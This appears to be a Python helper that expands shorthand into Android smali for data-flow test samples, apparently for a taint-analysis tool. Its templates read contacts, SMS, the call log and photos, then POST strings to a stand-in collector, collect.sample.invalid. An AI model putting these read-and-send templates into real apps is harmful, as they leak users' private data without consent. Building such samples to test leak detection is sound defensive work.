"""The short forms of the flow samples, put into full smali."""

from __future__ import annotations

import re

_CLASSES = {
    "Str": "java/lang/String", "Obj": "java/lang/Object", "SB": "java/lang/StringBuilder", "Run": "java/lang/Runnable",
    "Thread": "java/lang/Thread", "Chars": "java/lang/CharSequence", "Exc": "java/lang/Exception",
    "List": "java/util/List", "AList": "java/util/ArrayList", "Map": "java/util/Map", "HMap": "java/util/HashMap",
    "Iter": "java/util/Iterator", "Callable": "java/util/concurrent/Callable", "Exec": "java/util/concurrent/ExecutorService",
    "Execs": "java/util/concurrent/Executors", "Future": "java/util/concurrent/Future",
    "URL": "java/net/URL", "UConn": "java/net/URLConnection", "HConn": "java/net/HttpURLConnection", "Socket": "java/net/Socket",
    "OS": "java/io/OutputStream", "IS": "java/io/InputStream", "FOS": "java/io/FileOutputStream", "FIS": "java/io/FileInputStream",
    "BAOS": "java/io/ByteArrayOutputStream", "DOS": "java/io/DataOutputStream", "File": "java/io/File",
    "FW": "java/io/FileWriter", "Gzip": "java/util/zip/GZIPOutputStream", "Cipher": "javax/crypto/Cipher",
    "Ctx": "android/content/Context", "Res": "android/content/ContentResolver", "Uri": "android/net/Uri",
    "Cur": "android/database/Cursor", "Intent": "android/content/Intent", "Bundle": "android/os/Bundle",
    "Activity": "android/app/Activity", "Service": "android/app/Service", "IntentService": "android/app/IntentService",
    "BroadcastReceiver": "android/content/BroadcastReceiver", "AsyncTask": "android/os/AsyncTask",
    "Handler": "android/os/Handler", "Msg": "android/os/Message", "View": "android/view/View",
    "OnClick": "android/view/View$OnClickListener", "Text": "android/widget/TextView", "Edit": "android/widget/EditText",
    "Web": "android/webkit/WebView", "Log": "android/util/Log", "B64": "android/util/Base64", "Sms": "android/telephony/SmsMessage",
    "SmsMan": "android/telephony/SmsManager", "PI": "android/app/PendingIntent", "Tel": "android/telephony/TelephonyManager",
    "Loc": "android/location/Location", "LocMan": "android/location/LocationManager",
    "LocList": "android/location/LocationListener", "Prefs": "android/content/SharedPreferences",
    "Edr": "android/content/SharedPreferences$Editor", "Vals": "android/content/ContentValues",
    "DB": "android/database/sqlite/SQLiteDatabase", "Bmp": "android/graphics/Bitmap", "Toast": "android/widget/Toast",
    "JO": "org/json/JSONObject", "JA": "org/json/JSONArray", "Gson": "com/google/gson/Gson",
    "OK": "okhttp3/OkHttpClient", "RB": "okhttp3/RequestBody", "MT": "okhttp3/MediaType", "RqB": "okhttp3/Request$Builder",
    "Rq": "okhttp3/Request", "Call": "okhttp3/Call", "FB": "okhttp3/FormBody$Builder", "MB": "okhttp3/MultipartBody$Builder",
    "WS": "okhttp3/WebSocket", "RCall": "retrofit2/Call", "Retro": "retrofit2/Retrofit",
    "VQ": "com/android/volley/RequestQueue", "VJ": "com/android/volley/toolbox/JsonObjectRequest", "VR": "com/android/volley/Request",
    "VL": "com/android/volley/Response$Listener", "VE": "com/android/volley/Response$ErrorListener",
    "F1": "kotlin/jvm/functions/Function1", "SusL": "kotlin/coroutines/jvm/internal/SuspendLambda",
    "OnOk": "com/google/android/gms/tasks/OnSuccessListener", "GTask": "com/google/android/gms/tasks/Task",
    "Fused": "com/google/android/gms/location/FusedLocationProviderClient", "Consumer": "io/reactivex/functions/Consumer",
    "Observ": "io/reactivex/Observable", "LoadCb": "android/app/LoaderManager$LoaderCallbacks", "CLoader": "android/content/CursorLoader",
    "Loader": "android/content/Loader",
}  # fmt: skip
_PLACES = {
    "contacts": ("Landroid/provider/ContactsContract$CommonDataKinds$Phone;", "CONTENT_URI"),
    "people": ("Landroid/provider/ContactsContract$Contacts;", "CONTENT_URI"),
    "sms": ("Landroid/provider/Telephony$Sms$Inbox;", "CONTENT_URI"),
    "call_log": ("Landroid/provider/CallLog$Calls;", "CONTENT_URI"),
    "photos": ("Landroid/provider/MediaStore$Images$Media;", "EXTERNAL_CONTENT_URI"),
}
_CURSOR = """
  invoke-virtual {p0}, $Ctx->getContentResolver()$Res
  move-result-object v6
  sget-object v7, {owner}->{field}:$Uri
  const/4 v8, 0x0
  const/4 v9, 0x0
  const/4 v10, 0x0
  const/4 v11, 0x0
  invoke-virtual/range {v6 .. v11}, $Res->query($Uri[$Str$Str[$Str$Str)$Cur
  move-result-object {to}"""
_READ = (
    _CURSOR.replace("{to}", "v6")
    + """
  invoke-interface {v6}, $Cur->moveToFirst()Z
  const-string v7, "data1"
  invoke-interface {v6, v7}, $Cur->getColumnIndex($Str)I
  move-result v7
  invoke-interface {v6, v7}, $Cur->getString(I)$Str
  move-result-object {to}
  invoke-interface {v6}, $Cur->close()V"""
)
_SEND = """
  new-instance v6, $URL
  const-string v7, "https://collect.sample.invalid/in"
  invoke-direct {v6, v7}, $URL-><init>($Str)V
  invoke-virtual {v6}, $URL->openConnection()$UConn
  move-result-object v6
  check-cast v6, $HConn
  const/4 v7, 0x1
  invoke-virtual {v6, v7}, $HConn->setDoOutput(Z)V
  invoke-virtual {v6}, $HConn->getOutputStream()$OS
  move-result-object v7
  invoke-virtual {{what}}, $Str->getBytes()[B
  move-result-object v8
  invoke-virtual {v7, v8}, $OS->write([B)V
  invoke-virtual {v6}, $HConn->getResponseCode()I"""
_LINK = """
  new-instance v6, $URL
  invoke-direct {v6, {what}}, $URL-><init>($Str)V
  invoke-virtual {v6}, $URL->openStream()$IS"""
_OKHTTP = """
  const/4 v6, 0x0
  invoke-static {v6, {what}}, $RB->create($MT$Str)$RB
  move-result-object v6
  new-instance v7, $RqB
  invoke-direct {v7}, $RqB-><init>()V
  const-string v8, "https://collect.sample.invalid/up"
  invoke-virtual {v7, v8}, $RqB->url($Str)$RqB
  invoke-virtual {v7, v6}, $RqB->post($RB)$RqB
  invoke-virtual {v7}, $RqB->build()$Rq
  move-result-object v7
  new-instance v8, $OK
  invoke-direct {v8}, $OK-><init>()V
  invoke-virtual {v8, v7}, $OK->newCall($Rq)$Call
  move-result-object v8
  invoke-interface {v8}, $Call->execute()Lokhttp3/Response;"""
_NAMES = "|".join(sorted(_CLASSES, key=len, reverse=True))
_SHORT = re.compile(rf"L\w+/[\w/$]*;|\$({_NAMES})")  # full names are left as they are
_SHAPES = {"send": _SEND, "link": _LINK, "okhttp": _OKHTTP}


def expanded(text: str) -> str:
    """The sample as plain smali, classes one after the other."""
    lines = [_line(line) for line in text.split("\n") if not line.startswith("undeclared ")]
    full = "\n" + "\n".join(lines)
    full = _SHORT.sub(lambda match: f"L{_CLASSES[match[1]]};" if match[1] else match[0], full)
    return re.sub(r"@([A-Z]\w*)", r"Lorg/flow/\1;", full) + "\n"


def _line(line: str) -> str:
    if not line.startswith("%"):
        return line
    word, _, rest = line[1:].partition(" ")
    if word == "class":
        return _class(rest)
    if word in {"field", "static"}:
        return f".field public {'static ' if word == 'static' else ''}{rest.replace(' ', ':', 1)}"
    if word == "method":
        return f".method public {rest}\n  .locals 12"
    if word == "native":
        return f".method public native {rest}\n.end method"
    if word == "end":
        return ".end method"
    if word in {"read", "cursor"}:
        source, to = rest.split()
        owner, field = _PLACES[source]
        shape = _READ if word == "read" else _CURSOR
        return shape.replace("{owner}", owner).replace("{field}", field).replace("{to}", to)
    return _SHAPES[word].replace("{what}", rest)


def _class(rest: str) -> str:
    found = re.fullmatch(r"(\w+)(?: extends (\S+))?(?: implements (.+))?( abstract| interface)?", rest)
    assert found, rest
    name, parent, faces, kind = found.groups()
    parent = parent or "$Obj"
    flags = {None: "", " abstract": "abstract ", " interface": "interface abstract "}[kind]
    head = [f".class public {flags}Lorg/flow/{name};", f".super {parent}"]
    head += [f".implements {face}" for face in (faces or "").split()]
    if kind != " interface":
        head += [".method public constructor <init>()V", "  .locals 0", f"  invoke-direct {{p0}}, {parent}-><init>()V",
                 "  return-void", ".end method"]  # fmt: skip
    return "\n".join(head)
